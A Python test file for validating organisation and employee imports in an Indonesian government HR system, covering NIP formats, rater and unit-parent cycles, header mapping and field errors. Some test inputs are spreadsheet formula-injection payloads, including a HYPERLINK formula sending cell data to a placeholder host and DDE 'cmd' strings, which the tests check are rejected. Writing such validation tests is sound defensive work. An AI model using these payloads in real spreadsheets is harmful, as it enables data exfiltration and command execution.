"""Checking an organisation import: every error kind carries its row, column and reason;
rater and parent cycles are found; --skip-bad never lands a row pointing at a bad one."""
from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.org import Education, Golongan, JabatanKind, Jenjang, UnitKind
from domain.org_columns import (
    Severity,
    map_headers,
    parse_jabatan_kind,
    parse_jenjang,
    parse_unit_kind,
)
from domain.org_import import (
    ExistingOrg,
    KnownEmployee,
    KnownUnit,
    check_employees,
    check_units,
    find_cycles,
)

KADIS, KABID, BUDI, DEWI, ANDI = ("197203151998031004", "197911052005011002", "199003212015031001",
                                  "198807092012122001", "199602022022031002")
UNITS = {"DKI": KnownUnit("DKI"), "DKI.APT": KnownUnit("DKI.APT", "DKI")}
DB = ExistingOrg(units=UNITS)


def emp(nip, /, rater="", unit="DKI.APT", **over) -> dict:
    row = {"nip": nip, "name": f"Pegawai {nip[-3:]}", "jabatan_name": "Pranata Komputer Ahli Pertama",
           "jabatan_kind": "Fungsional", "jenjang": "Ahli Pertama", "golongan": "III/a", "education": "S1",
           "unit_code": unit, "rater_nip": rater}
    row.update(over)
    return row


def rows(*dicts) -> list[tuple[int, dict]]:
    return list(enumerate(dicts, start=2))


def only(issues, code):
    found = [i for i in issues if i.code == code]
    assert found, f"no {code} in {[(i.row, i.column, i.code) for i in issues]}"
    return found


def test_a_clean_file_has_no_issues_and_types_every_value():
    checked = check_employees(rows(emp(KADIS, jabatan_kind="JPT Pratama", jenjang=""),
                                   emp(BUDI, rater=KADIS, golongan="iii/b", education="S-1")), DB)
    assert checked.issues == [] and checked.bad_rows == set()
    kadis, budi = checked.rows
    assert kadis.jabatan_kind is JabatanKind.JPT_PRATAMA and kadis.jenjang is None
    assert budi.jenjang is Jenjang.AHLI_PERTAMA and budi.golongan == Golongan.parse("III/b")
    assert budi.education is Education.S1 and budi.rater_nip == KADIS


@pytest.mark.parametrize("column, value, code", [
    ("nip", "19900321201503100", "invalid_nip"),
    ("nip", "199003212015033001", "invalid_nip"),  # sex digit 3
    ("nip", "", "required"),
    ("name", "", "required"),
    ("name", "x" * 201, "too_long"),
    ("jabatan_name", "", "required"),
    ("jabatan_kind", "Eselon V", "invalid_jabatan_kind"),
    ("jabatan_kind", "", "required"),
    ("jenjang", "Ahli Super", "invalid_jenjang"),
    ("golongan", "III/f", "invalid_golongan"),
    ("golongan", "V/a", "invalid_golongan"),
    ("education", "S4", "invalid_education"),
    ("unit_code", "", "required"),
    ("unit_code", "DKI APT", "invalid_unit_code"),
    ("unit_code", "DKI.XYZ", "unknown_unit"),
    ("rater_nip", "12345", "invalid_nip"),
    ("rater_nip", DEWI, "unknown_rater"),
    ("rater_nip", BUDI, "self_rater"),
    ("phone", "call me", "invalid_phone"),
    # An NIP that went through a number: as Excel shows or exports it, or its 15 digits.
    ("nip", "1.99003212015031E+17", "nip_number_cell"),
    ("nip", "1,99003212015031E+17", "nip_number_cell"),  # an Indonesian locale
    ("nip", "199003212015031000", "nip_number_cell"),
    ("nip", "199003212015031001.0", "nip_number_cell"),
    ("rater_nip", "1.97203151998031E+17", "nip_number_cell"),
    # Names: no control or bidi characters, nothing a spreadsheet would run as a formula.
    ("name", '=HYPERLINK("http://x.example/?"&A1,"klik")', "formula_text"),
    ("name", "+cmd|' /C calc'!A0", "formula_text"),
    ("name", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_text"),
    ("name", "-2+3", "formula_text"),
    ("jabatan_name", "=1+1", "formula_text"),
    ("name", "Budi\x00Santoso", "unsafe_text"),
    ("name", "Budi \u202eosotnaS", "unsafe_text"),
    ("jabatan_name", "Analis \u2066Kebijakan\u2069", "unsafe_text"),
])
def test_each_bad_value_is_reported_with_row_column_and_reason(column, value, code):
    checked = check_employees(rows(emp(KADIS, jabatan_kind="JPT Pratama", jenjang=""),
                                   emp(BUDI, rater=KADIS, **{column: value})), DB)
    (issue,) = [i for i in checked.issues if i.is_error]
    assert (issue.row, issue.column, issue.code) == (3, column, code)
    assert checked.bad_rows == {3} and [r.nip for r in checked.rows] == [KADIS]


def test_duplicate_nip_marks_every_occurrence():
    checked = check_employees(rows(emp(BUDI), emp(DEWI), emp(BUDI, name="Budi Lain")), DB)
    issues = only(checked.issues, "duplicate_nip")
    assert [(i.row, i.column) for i in issues] == [(2, "nip"), (4, "nip")]
    assert issues[0].params["rows"] == "2, 4"
    assert [r.nip for r in checked.rows] == [DEWI]


def test_rater_cycle_is_found_and_every_member_reported():
    checked = check_employees(rows(emp(BUDI, rater=DEWI), emp(DEWI, rater=ANDI), emp(ANDI, rater=BUDI),
                                   emp(KABID, rater=BUDI)), DB)
    cycle = only(checked.issues, "rater_cycle")
    assert [(i.row, i.column) for i in cycle] == [(2, "rater_nip"), (3, "rater_nip"), (4, "rater_nip")]
    assert f"{BUDI} → {DEWI} → {ANDI} → {BUDI}" in cycle[0].params["chain"]
    # Row 5 points into the cycle: its rater exists only on a bad row, so it is bad too.
    assert only(checked.issues, "rater_row_invalid")[0].row == 5
    assert checked.rows == []


def test_a_cycle_through_the_database_is_found_too():
    db = ExistingOrg(units=UNITS, employees={KADIS: KnownEmployee(KADIS, JabatanKind.JPT_PRATAMA, "DKI", BUDI)})
    checked = check_employees(rows(emp(BUDI, rater=KADIS)), db)
    (issue,) = checked.errors
    assert issue.code == "rater_cycle" and issue.row == 2


def test_rater_on_a_bad_row_is_named_as_such_not_unknown():
    checked = check_employees(rows(emp(KADIS, golongan="Z"), emp(BUDI, rater=KADIS)), DB)
    assert [(i.row, i.code) for i in checked.errors] == [(2, "invalid_golongan"), (3, "rater_row_invalid")]


def test_rater_in_database_is_fine_unless_inactive_or_dropped_by_a_full_import():
    db = ExistingOrg(units=UNITS, employees={
        KADIS: KnownEmployee(KADIS, JabatanKind.JPT_PRATAMA, "DKI"),
        KABID: KnownEmployee(KABID, JabatanKind.ADMINISTRATOR, "DKI.APT", active=False)})
    assert check_employees(rows(emp(BUDI, rater=KADIS)), db).errors == []
    (issue,) = check_employees(rows(emp(BUDI, rater=KABID)), db).errors
    assert (issue.code, issue.column) == ("rater_inactive", "rater_nip")
    (issue,) = check_employees(rows(emp(BUDI, rater=KADIS)), db, full=True).errors
    assert issue.code == "rater_not_in_file"


def test_warnings_do_not_block_a_row():
    db = ExistingOrg(units=UNITS, employees={ANDI: KnownEmployee(ANDI, JabatanKind.PELAKSANA, "DKI")})
    checked = check_employees(rows(emp(BUDI, rater=ANDI, jenjang=""),
                                   emp(DEWI, jabatan_kind="Pelaksana", jenjang="Ahli Muda")), db)
    assert checked.errors == [] and len(checked.rows) == 2
    codes = {(i.row, i.code) for i in checked.warnings}
    assert codes == {(2, "rater_is_pelaksana"), (2, "jenjang_missing"), (3, "jenjang_ignored")}
    assert checked.rows[1].jenjang is None


def test_full_import_warns_about_unit_heads_it_would_deactivate():
    db = ExistingOrg(units={**UNITS, "DKI": KnownUnit("DKI", None, KADIS)},
                     employees={KADIS: KnownEmployee(KADIS, JabatanKind.JPT_PRATAMA, "DKI")})
    checked = check_employees(rows(emp(BUDI)), db, full=True)
    (issue,) = checked.warnings
    assert (issue.row, issue.code, issue.params["unit"]) == (None, "head_deactivated", "DKI")


def test_head_placed_in_another_unit_is_a_warning():
    db = ExistingOrg(units=UNITS, pending_heads={"DKI": KADIS})
    checked = check_employees(rows(emp(KADIS, unit="DKI.APT", jabatan_kind="JPT Pratama", jenjang="")), db)
    (issue,) = checked.warnings
    assert issue.code == "head_in_other_unit" and issue.params == {"unit": "DKI", "value": "DKI.APT"}


def unit(code, /, name="Unit", kind="bidang", parent="", head="", **over) -> dict:
    return {"code": code, "name": name, "kind": kind, "parent_code": parent, "head_nip": head, **over}


@pytest.mark.parametrize("column, value, code", [
    ("code", "", "required"),
    ("code", "A B", "invalid_unit_code"),
    ("name", "", "required"),
    ("kind", "kantor pos", "invalid_unit_kind"),
    ("kind", "", "required"),
    ("parent_code", "NOWHERE", "unknown_parent"),
    ("parent_code", "X.1", "parent_cycle"),  # its own parent
    ("head_nip", "123", "invalid_nip"),
    ("head_nip", "1.97911052005011E+17", "nip_number_cell"),
    ("name", "=cmd|' /C calc'!A0", "formula_text"),
    ("name", "Bidang\x07P2P", "unsafe_text"),
])
def test_each_bad_unit_value_is_reported(column, value, code):
    checked = check_units(rows(unit("X", kind="dinas", head=KADIS), unit("X.1", parent="X", head=KABID,
                                                                          **{column: value})), DB)
    (issue,) = checked.errors
    assert (issue.row, issue.column, issue.code) == (3, column, code)


def test_unit_parent_cycle_and_duplicate_code():
    checked = check_units(rows(unit("A", parent="C", head=KADIS), unit("B", parent="A", head=KADIS),
                               unit("C", parent="B", head=KADIS), unit("D", parent="A", head=KADIS),
                               unit("E", head=KADIS), unit("e", head=KADIS)), DB)
    assert [i.row for i in only(checked.issues, "parent_cycle")] == [2, 3, 4]
    assert [i.row for i in only(checked.issues, "parent_row_invalid")] == [5]
    assert [i.row for i in only(checked.issues, "duplicate_code")] == [6, 7]  # codes compare case-insensitively
    assert checked.rows == []


def test_unit_without_head_is_a_warning_and_unknown_head_is_pending():
    checked = check_units(rows(unit("X", kind="Sekretariat Daerah"), unit("X.1", parent="X", head=KADIS)), DB)
    assert checked.errors == [] and [r.kind for r in checked.rows] == [UnitKind.SETDA, UnitKind.BIDANG]
    assert [(i.row, i.code, i.severity) for i in checked.warnings] == [
        (2, "no_head", Severity.WARNING), (3, "head_not_found_yet", Severity.WARNING)]


def test_parent_from_the_database_and_inactive_head():
    db = ExistingOrg(units=UNITS, employees={KADIS: KnownEmployee(KADIS, JabatanKind.JPT_PRATAMA, "DKI", None,
                                                                  active=False)})
    checked = check_units(rows(unit("DKI.NEW", parent="dki", head=KADIS)), db)
    (issue,) = checked.errors
    assert (issue.column, issue.code) == ("head_nip", "head_inactive")


def test_headers_map_aliases_case_and_spaces():
    columns, issues = map_headers("employees", [" NIP ", "Nama", "Nama Jabatan", "Jenis Jabatan", "Jenjang",
                                                "Gol. Ruang", "Pendidikan", "Kode Unit", "NIP Penilai", "No. HP",
                                                "Catatan"])
    assert list(columns.values()) == ["nip", "name", "jabatan_name", "jabatan_kind", "jenjang", "golongan",
                                      "education", "unit_code", "rater_nip", "phone"]
    (issue,) = issues
    assert (issue.row, issue.code, issue.severity) == (1, "unknown_column", Severity.WARNING)


def test_headers_missing_and_duplicate_columns_are_errors():
    _, issues = map_headers("units", ["Kode", "Nama", "code"])
    assert {(i.row, i.column, i.code) for i in issues} == {(1, "code", "duplicate_column"),
                                                           (1, "kind", "missing_column")}


@pytest.mark.parametrize("text, kind", [
    ("JPT Pratama", JabatanKind.JPT_PRATAMA), ("jpt_madya", JabatanKind.JPT_MADYA),
    ("FUNGSIONAL", JabatanKind.FUNGSIONAL),
    ("Eselon III", JabatanKind.ADMINISTRATOR), ("jabatan pelaksana", JabatanKind.PELAKSANA)])
def test_human_spellings_of_jabatan_kind(text, kind):
    assert parse_jabatan_kind(text) is kind


def test_human_spellings_of_jenjang_and_unit_kind():
    assert parse_jenjang("AHLI UTAMA") is Jenjang.AHLI_UTAMA and parse_jenjang("penyelia") is Jenjang.PENYELIA
    assert parse_unit_kind("Sub Bagian") is UnitKind.SUBBAGIAN and parse_unit_kind("PUSKESMAS") is UnitKind.PUSKESMAS


@given(st.dictionaries(st.integers(0, 30), st.integers(0, 30)))
def test_find_cycles_finds_exactly_the_nodes_that_return_to_themselves(graph):
    links = {str(k): str(v) for k, v in graph.items()}
    in_cycles = {node for cycle in find_cycles(links) for node in cycle}

    def returns(node):
        seen, cur = set(), links.get(node)
        while cur is not None and cur not in seen:
            if cur == node:
                return True
            seen.add(cur)
            cur = links.get(cur)
        return False

    assert in_cycles == {n for n in links if returns(n)}
    cycles = find_cycles(links)
    assert len({frozenset(c) for c in cycles}) == len(cycles)  # each cycle once


@pytest.mark.parametrize("jabatan", ["Sub Koordinator Pelayanan Informasi", "Subkoordinator Keuangan",
                                     "Pranata Komputer / SUB  KOORDINATOR Aplikasi"])
def test_rule_56_hsu_Ps_26_a_sub_koordinator_jabatan_is_a_row_error_citing_the_article(jabatan):
    from domain.profiles import load_profile
    hsu, nasional = load_profile("hulu-sungai-utara"), load_profile("nasional")
    row = rows(emp(KADIS, jabatan_kind="JPT Pratama", jenjang="", unit="DKI"),
               emp(BUDI, rater=KADIS, jabatan_name=jabatan))
    checked = check_employees(row, DB, profile=hsu)
    (issue,) = checked.errors
    assert (issue.row, issue.column, issue.code) == (3, "jabatan_name", "sub_koordinator_barred")
    assert issue.params["article"] == "Ps 26" and issue.params["value"] == " ".join(jabatan.split())
    assert [r.nip for r in checked.rows] == [KADIS]
    assert check_employees(row, DB, profile=nasional).errors == []  # NS elsewhere
